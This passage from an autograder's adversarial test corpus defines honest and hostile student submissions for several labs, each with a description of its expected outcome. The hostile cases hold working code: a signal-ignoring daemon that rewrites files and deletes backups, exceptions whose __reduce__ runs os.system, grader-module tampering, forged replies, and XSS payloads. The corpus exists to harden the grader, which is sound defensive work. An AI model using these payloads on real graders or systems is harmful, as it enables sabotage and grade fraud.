            frame.f_locals[key] = True
            changed = True
    if changed:
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return _tracer


sys.settrace(_tracer)
threading.settrace(_tracer)
sys.setprofile(lambda frame, event, arg: None)
sys.excepthook = lambda *args: None
sys.displayhook = lambda value: None


def assess(command):
    raise NotImplementedError()
'''

A8_EXITS = PLANT + r'''

import _thread
import os
import signal
import threading

_calls = [0]


class _Loud(Exception):
    """An exception whose text runs code, and whose repr and pickling run more."""

    def __str__(self):
        _plant("str")
        return "<script>alert('judgecorpus-exc-1')</script>" + "x" * 100_000

    def __repr__(self):
        _plant("repr")
        raise RuntimeError("no repr for you")

    def __reduce__(self):
        _plant("exc-reduce")
        return (os.system, ("touch /tmp/judgecorpus-pwned-exc-reduce-ran",))


def insert(path, insert_line, insert_text):
    _calls[0] += 1
    n = _calls[0]
    if n == 1:
        raise SystemExit(0)
    if n == 2:
        raise KeyboardInterrupt()
    if n == 3:  # Ctrl-C lands a moment later, in whatever runs then
        threading.Timer(0.05, _thread.interrupt_main).start()
        return "Inserted after line 0."
    if n == 4:
        raise GeneratorExit()
    if n == 5:
        os.kill(os.getpid(), signal.SIGINT)
        return "Inserted after line 0."
    if n == 6:
        raise StopIteration
    if n == 40:
        os._exit(0)
    raise _Loud("loud")
'''

A8_DAEMON = r'''import os
import subprocess
import sys

_DAEMON = r"""
import os, pathlib, signal, sys, time
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(sig, signal.SIG_IGN)
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
roots = {pathlib.Path(p) for p in sys.argv[2:]} | {pathlib.Path("/tmp"), pathlib.Path.home()}
end = time.time() + 3600
while time.time() < end:
    for root in list(roots):
        try:
            for path in root.rglob("*"):
                if path.is_dir() and path.name == ".agent-backups":
                    for item in path.iterdir():
                        item.unlink()
                elif path.is_file() and path.suffix in (".txt", ".py") and path.stat().st_size < 200_000:
                    path.write_bytes(path.read_bytes() + b"# the daemon was here\n")
        except OSError:
            pass
    for name in ("/tmp/judgecorpus-pwned-daemon", os.path.expanduser("~/judgecorpus-pwned-daemon")):
        try:
            pathlib.Path(name).write_text(str(os.getpid()))
        except OSError:
            pass
    time.sleep(0.005)
"""

subprocess.Popen([sys.executable, "-c", _DAEMON, "PROC_MARK_HERE", os.getcwd(), os.path.dirname(os.getcwd())],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)


def sandbox_argv(policy, project, home, python_roots, command):
    raise NotImplementedError()
'''.replace("PROC_MARK_HERE", PROC_MARK)

DISPLAY_PAYLOADS = (
    "<script>document.title='judgecorpus-display-1'</script>",
    "<b>judgecorpus-display-2</b>",  # in the Javascript output
    "<script>alert('judgecorpus-display-3')</script>",  # inside an SVG
    "<judgecorpus-display-4>",  # a widget view's model id
    "<img src=x onerror=\"alert('judgecorpus-display-5')\">",  # in text/markdown
    "<img src=\"javascript:alert(&#x27;judgecorpus-display-6&#x27;)\"",  # an image's URL, as IPython writes it
    "<iframe src=\"https://example.invalid/judgecorpus-display-7\">",
)

A8_DISPLAY = lab8(
    str_replace=L8_STR_REPLACE + r'''

from IPython.display import HTML, display

display(HTML("<script>document.title='judgecorpus-display-1'</script><b>str_replace</b>"))
''',
    insert=L8_INSERT + r'''

from IPython.display import Javascript

display(Javascript("document.body.innerHTML = '<b>judgecorpus-display-2</b>'"))
''',
    assess=L8_ASSESS + r'''

from IPython.display import SVG

display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(\'judgecorpus-display-3\')</script></svg>'))
''',
    guardrail=L8_GUARDRAIL + r'''

display({"application/vnd.jupyter.widget-view+json": {"model_id": "<judgecorpus-display-4>", "version_major": 2,
                                                      "version_minor": 0},
         "text/plain": "Guardrail"}, raw=True)
display({"text/markdown": "<img src=x onerror=\"alert('judgecorpus-display-5')\"> **guardrail**",
         "text/plain": "guardrail"}, raw=True)
''',
    sandbox_argv=L8_SANDBOX + r'''

from IPython.display import Image

display(Image(url="javascript:alert('judgecorpus-display-6')"))
display({"text/html": '<iframe src="https://example.invalid/judgecorpus-display-7"></iframe>', "text/plain": "frame"},
        raw=True)
print("x" * 3_000_000)  # one line of 3 MB
print("\u202etnioP 34/34\u202c", "\u200b" * 10_000, "a\u0301" * 50_000)
''',
)


# ============================================================================ the cases

LAB2 = [
    honest("h2-debug-flood", "lab02", {"run_turn": L2_DEBUG_FLOOD},
           "2 MB of debug output while the answer cell runs, and debug lines in every call"),
    honest("h2-class-closures", "lab02", {"run_turn": L2_CLASS},
           "a class with closures, helpers named like the setup's and checks' (dispatch_tool_safely, "
           "a local tool_results and show)"),
    honest("h2-plain-dicts", "lab02", {"run_turn": L2_PLAIN_DICTS},
           "the history holds plain dicts, never the SDK's objects (the worked solution keeps SDK blocks)"),
    honest("h2-introspective", "lab02", {"run_turn": L2_INTROSPECTIVE},
           "import os, vars(), globals(), inspect on its own functions, functools.singledispatch, "
           "and HTML-looking debug prints", inert=("<b>ready:</b> run_turn",)),
    Case("a2-notebook-files", "lab02", "read", {"run_turn": A2_NOTEBOOK_FILES}, READ, 0.0,
         why="searches the filesystem (course repo, home, /tmp, /srv, /workspace ...) for notebooks or "
             "sources holding hidden tests or the worked solution; prints them; execs a found run_turn"),
    Case("a2-frames-display", "lab02", "read", {"run_turn": A2_FRAMES_DISPLAY}, READ, FULL["lab02"],
         page_absent=("Read tests.py, utils.py and main.py",),
         why="correct, but every call walks frames, threads, linecache, In and gc, and pushes what it finds "
             "into the answer cell's own output (update_display, and prints under its parent header)"),
    Case("a2-forged-exceptions", "lab02", "raise", {"run_turn": A2_FORGED_EXCEPTIONS}, ATTACK, 0.0,
         inert=("<b>judgecorpus-forged-assertion</b>",),
         why="home-made RateLimitError, OverloadedError, InternalServerError, BadRequestError (module "
             "anthropic, installed in the kernel's anthropic), KeyboardInterrupt and AssertionError, "
             "raised after a closing note, chosen from the faults the client carries"),
    Case("a2-sys-modules", "lab02", "tamper", {"run_turn": A2_SYS_MODULES}, DYING, 0.0,
         why="replaces every agentcourse.grading/judge module in sys.modules, patches the imported ones' "
             "functions, and adds a meta-path finder: every serve-loop function answers 'passed'"),
    Case("a2-sdk-types", "lab02", "tamper", {"run_turn": A2_SDK_TYPES}, ATTACK, 0.0,
         why="patches pydantic's and the SDK types' model_dump/__eq__/to_json and Messages.create: "
             "replies fabricated in the kernel, types that equal anything"),
    Case("a2-tutor-forgery", "lab02", "channel", {"run_turn": A2_TUTOR_FORGERY}, SLOW, 0.0,
         why="finds the tutor's URL and sockets and sends it forged requests (a retry with more "
             "max_tokens, a finished turn) on every path it might record, then holds 64 half-sent requests"),
    Case("a2-stdout-flood", "lab02", "flood", {"run_turn": A2_STDOUT_FLOOD}, SLOW, 0.0,
         why="60 MB on stdout, stderr and fd 1 in the answer cell, 150 MB per call, and a thread that never stops"),
    Case("a2-html-prints", "lab02", "page", {"run_turn": A2_HTML_PRINTS}, PAGE, FULL["lab02"],
         inert=HTML_PAYLOADS, page_absent=("judgecorpus-ssti-49",),
         why="correct, and prints script, event handlers, meta refresh, base, form, a fake verdict, "
             "template syntax, a bidi override and a terminal hyperlink"),
    Case("a2-formgrader", "lab02", "formgrader", {"run_turn": A2_FORMGRADER}, PAGE, 0.0,
         markdown=FORMGRADER_MARKDOWN, inert=FORMGRADER_PAYLOADS,
         why="blank; its outputs (text/html, application/javascript, SVG, widget view, markdown, an "
             "iframe) would call formgrader's API with the instructor's cookies when the notebook is opened"),
]

LAB5 = [
    honest("h5-dataclasses", "lab05", L5_DATACLASS,
           "dataclasses in every cell: asdict for usage, records and totals, a Price and a Rule"),
    honest("h5-singledispatch", "lab05", L5_DISPATCH,
           "functools.singledispatch over usage types and model names, a match statement on Limits, "
           "dict union, itertools.count"),
    honest("h5-html-globals", "lab05", L5_HTML_GLOBALS,
           "import os, globals()['PRICES'], vars(limits), inspect, and HTML-looking prints (<b>, <table>, "
           "a <script> comment) in the answer cells and in every call",
           inert=("<b>usage_of ready</b>", '<table class="trace">', "<script>/* not code */</script>")),
    honest("h5-closures-plain", "lab05", L5_CLOSURES,
           "closures and lambdas, helpers named like the setup's (call_model_timed, run_tools_for), and a "
           "history of plain dicts instead of the SDK's blocks"),
    Case("a5-history-replay", "lab05", "read", A5_HISTORY, READ, FULL["lab05"],
         page_absent=("3000000000000",),
         why="correct, but usage_of records every usage it reads (the hidden tests' too) and each later "
             "answer cell prints them with In, _ih, Out, the history database and linecache"),
    Case("a5-environ-proc", "lab05", "read", lab5(limit_reached=A5_ENVIRON), READ, 17.0,
         why="dumps os.environ, sys.argv, the judge modules' sources, /proc/*/{cmdline,environ,cwd,root,fd} "
             "and /proc/net/unix; limit_reached as released (the other tasks: 17 points)"),
    Case("a5-always-equal", "lab05", "lie", lab5(usage_of=A5_ALWAYS_EQUAL), ATTACK, 15.0,
         why="usage_of returns an object equal to everything, with lying __len__/__iter__/__getattr__/"
             "__class__ and arithmetic (as plain data, nothing: 15 points from the other tasks)"),
    Case("a5-dict-subclass", "lab05", "lie", lab5(trace=A5_DICT_SUBCLASS), ATTACK, 21.0,
         why="trace_record and totals return dict subclasses of zeros whose __eq__, get, __getitem__, "
             "keys and items lie (the zeros as plain dicts: 21 points, test_run_turn_hidden reading no record)"),
    Case("a5-pickle-repr", "lab05", "lie", lab5(cost_usd=A5_PICKLE_REPR), ATTACK, 23.0,
         outside_absent=tuple(PWNED + tag for tag in ("reduce", "reduce-ran", "getstate", "repr", "str",
                                                        "format", "del")),
         why="cost_usd returns a float subclass equal to any price whose __reduce__, __getstate__, "
             "__repr__, __str__, __format__ and __del__ run code (as plain 0.0: 23 points, run_turn's "
             "rules being consistent with its own cost_usd)"),
    Case("a5-json-pickle-patch", "lab05", "tamper", lab5(usage_of=A5_JSON_PICKLE_PATCH), DYING, 15.0,
         why="patches json.dumps, JSONEncoder.encode, pickle.loads and socket.send/sendall (and the names "
             "judge modules imported) so every reply says ok; usage_of as released"),
    Case("a5-channel-forge", "lab05", "channel", lab5(limit_reached=A5_CHANNEL_FORGE), DYING, 17.0,
         why="a thread writes forged replies in five framings onto every socket fd of the process and every "
             "unix socket it can find, then 1 MB of noise, for 15 minutes; limit_reached as released"),
    Case("a5-sleep-one-test", "lab05", "time", lab5(limit_reached=A5_SLEEP_ONE), SLOW, 28.0,
         why="correct except that one hidden check (steps=10**9) sleeps ten hours: that cell (2 points) times out"),
    Case("a5-echo-html-message", "lab05", "page", lab5(limit_reached=A5_ECHO), PAGE, 17.0,
         inert=(ECHO_PAYLOAD,),
         why="limit_reached returns script and 50,000 <b> tags, which the checks' own messages quote "
             "(got {got!r}): 17 points"),
    Case("a5-markdown-html", "lab05", "page", lab5(), PAGE, FULL["lab05"], markdown=A5_MARKDOWN,
         inert=MARKDOWN_PAYLOADS,
         why="correct, with markdown cells of raw HTML and script: script, onerror, SVG animate, iframe "
             "srcdoc, javascript: links (also in MathJax), meta refresh, form, object data:"),
]

LAB8 = [
    honest("h8-regex-dataclass-dispatch", "lab08", L8_DISPATCH,
           "overlapping matches by a regex lookahead, a breadth-first assess, a dataclass Guardrail, and "
           "mounts as dataclasses rendered by functools.singledispatch"),
    honest("h8-lookalike-closures", "lab08", L8_LOOKALIKES,
           "helpers named like the setup's (load_or_error, backup_then_write, split_lines_of), closures, a "
           "generator walk with its own exception, a Guardrail with __slots__"),
    honest("h8-os-inspect-html", "lab08", L8_OS_INSPECT_HTML,
           "import os, inspect, globals()['load'], vars(self) and vars(policy), HTML-looking prints in "
           "every cell and call", inert=("<b>str_replace</b> uses load", "<b>sandbox_argv</b>:")),
    honest("h8-chatty", "lab08", L8_CHATTY,
           "every call printed with its arguments and result, and 0.5 MB of notes per answer cell"),
    Case("a8-solutions-exec", "lab08", "read", A8_SOLUTIONS_EXEC, READ, 0.0,
         why="every cell blank unless the worked solution is found: REPO_ROOT, a walk of /, loose git "
             "objects and `git log -p`; any solution cell found is exec'd"),
    Case("a8-gc-replay", "lab08", "read", A8_GC_REPLAY, READ, FULL["lab08"],
         page_absent=("alpha beta gamma", "/home/zoe"),
         why="correct, but records every call's arguments and the file it edits, searches gc for test "
             "text, and prints it all in each later answer cell and into the first one's display"),
    Case("a8-str-subclass", "lab08", "lie", lab8(str_replace=A8_STR_SUBCLASS), ATTACK, 35.0,
         why="str_replace edits nothing and returns an empty str subclass equal to any message, whose "
             "startswith, __contains__ and __len__ lie (as plain '': 35 points)"),
    Case("a8-list-subclass", "lab08", "lie", lab8(sandbox_argv=A8_LIST_SUBCLASS), ATTACK, 33.0,
         why="sandbox_argv returns an empty list subclass whose __eq__, __getitem__, index, __iter__ and "
             "__len__ lie, and every third call a list that holds itself (33 points)"),
    Case("a8-guardrail-getattr", "lab08", "lie", lab8(guardrail=A8_GUARDRAIL_GETATTR), ATTACK, 35.0,
         why="a Guardrail whose every attribute is an always-equal object (approved too), whose __eq__ "
             "and __repr__ lie, and whose check never asks and returns a str equal to anything (35 points)"),
    Case("a8-huge-recursive", "lab08", "lie", lab8(assess=A8_HUGE_RECURSIVE), SLOW, 26.0,
         why="assess returns a self-holding list, a million nested tuples, 60 MB of text, a million-key "
             "dict, a dict that holds itself (26 points: only the unfenced Guardrail ignores what assess says)"),
    Case("a8-builtins-trace", "lab08", "tamper", lab8(assess=A8_BUILTINS_TRACE), DYING, 24.0,
         why="rebinds builtins.isinstance and len for judge-like callers, a trace function that nulls "
             "exceptions in their frames (PyFrame_LocalsToFast), excepthook and displayhook; assess as released"),
    Case("a8-exits", "lab08", "raise", lab8(insert=A8_EXITS), DYING, 37.0,
         outside_absent=tuple(PWNED + tag for tag in ("str", "repr", "exc-reduce", "exc-reduce-ran")),
         why="insert raises SystemExit, KeyboardInterrupt, GeneratorExit, StopIteration, an exception whose "
             "__str__/__repr__/__reduce__ run code; Ctrl-C from a timer and a signal; os._exit on call 40"),
    Case("a8-daemon-scratch", "lab08", "process", lab8(sandbox_argv=A8_DAEMON), ATTACK, 33.0,
         outside_absent=(PWNED + "daemon",),
         why="a double-forked, setsid daemon ignoring SIGTERM/SIGHUP/SIGINT rewrites every file of the "
             "scratch projects and empties .agent-backups every 5 ms for an hour; sandbox_argv as released"),
    Case("a8-display-outputs", "lab08", "page", A8_DISPLAY, PAGE, FULL["lab08"], inert=DISPLAY_PAYLOADS,
         why="correct, with display outputs: HTML script, Javascript, SVG script, a widget view, markdown "
             "with onerror, a javascript: image, an iframe, a 3 MB line, bidi and zero-width characters"),
]

CASES = LAB2 + LAB5 + LAB8
ATTACKS = [c for c in CASES if not c.honest]
HONEST = [c for c in CASES if c.honest]


def cases(lab: str) -> list[Case]:
    return [c for c in CASES if c.lab == lab]


# ============================================================================ helpers for the tests


def submission(case: Case):
    """The student's notebook: the lab's release with the case's answer cells and markdown."""
    import nbformat

    from agentcourse.course import nbfile
    from agentcourse.paths import REPO_ROOT

    nb = nbfile.read_notebook(REPO_ROOT / "labs" / case.lab / f"{case.lab}.ipynb")
    last, found = 0, set()
    for index, cell in enumerate(nb.cells):
        gid = nbfile.grade_id(cell)
        if gid in case.answers:
            cell.source = case.answers[gid]
            last = index
            found.add(gid)
    missing = set(case.answers) - found
    if missing:
        raise ValueError(f"{case.student}: no answer cell {sorted(missing)} in {case.lab}")
    for k, text in enumerate(case.markdown):
        cell = nbformat.v4.new_markdown_cell(text)
        cell["id"] = f"my-notes-{k}"
        nb.cells.insert(last + 1 + k, cell)
    return nb


def hidden_lines(lab: str, shortest: int = 12) -> list[str]:
    """The lab's hidden test lines (stripped, at least `shortest` characters): none may be in a page."""
    from agentcourse.course import nbfile
    from agentcourse.paths import REPO_ROOT

    nb = nbfile.read_notebook(REPO_ROOT / "solutions" / lab / f"{lab}.ipynb")
    lines = []
    for cell in nb.cells:
        inside = False
        for line in cell.source.splitlines():
            if nbfile.BEGIN_HIDDEN in line:
                inside = True
            elif nbfile.END_HIDDEN in line:
                inside = False
            elif inside and len(line.strip()) >= shortest:
                lines.append(line.strip())
    return lines
